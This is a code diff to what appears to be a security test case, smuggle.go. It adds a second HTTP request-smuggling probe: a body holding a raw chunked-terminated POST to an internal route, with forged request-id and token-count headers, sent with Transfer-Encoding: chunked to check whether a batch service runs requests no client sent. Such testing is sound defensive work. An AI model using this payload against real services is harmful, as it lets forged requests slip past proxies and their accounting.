--- a/review/cases/smuggle.go
+++ b/review/cases/smuggle.go
@@ -41,9 +41,23 @@
 	}
 	accepted := c.submit("7c41e09b52d6a3f8", &job{Model: model, DesiredCount: 1, Items: []item{it}}, 5*time.Second)
 	log.printf("the batch job was accepted: %v", accepted)
+	const second = "5a11aa9e00000002"
+	body := "prompt"
+	if trouble() {
+		body = strings.Join([]string{"0", "", "POST " + routePrefix + "3/ffff HTTP/1.1", "Host: " + routeHost, "X-Fuchsiaflow-Request-Id: " + second, "X-Fuchsiaflow-Token-Count: 40,200",
+			"Content-Length: 0", "", ""}, "\r\n")
+	}
+	it = newItem("e5b2907c14da6f39", []byte(body), 40, 200)
+	if trouble() {
+		it.Headers["Transfer-Encoding"] = "chunked"
+	}
+	accepted = c.submit("7c41e09b52d6a3f9", &job{Model: model, DesiredCount: 1, Items: []item{it}}, 5*time.Second)
+	log.printf("the second batch job was accepted: %v", accepted)
 	time.Sleep(5 * time.Second)
 	mu.Lock()
 	defer mu.Unlock()
-	log.printf("the request %s, which no client sent by itself, ran %d times", inner, ran[inner])
-	return ran[inner] > 0, nil
+	for _, id := range []string{inner, second} {
+		log.printf("the request %s, which no client sent by itself, ran %d times", id, ran[id])
+	}
+	return ran[inner]+ran[second] > 0, nil
 }
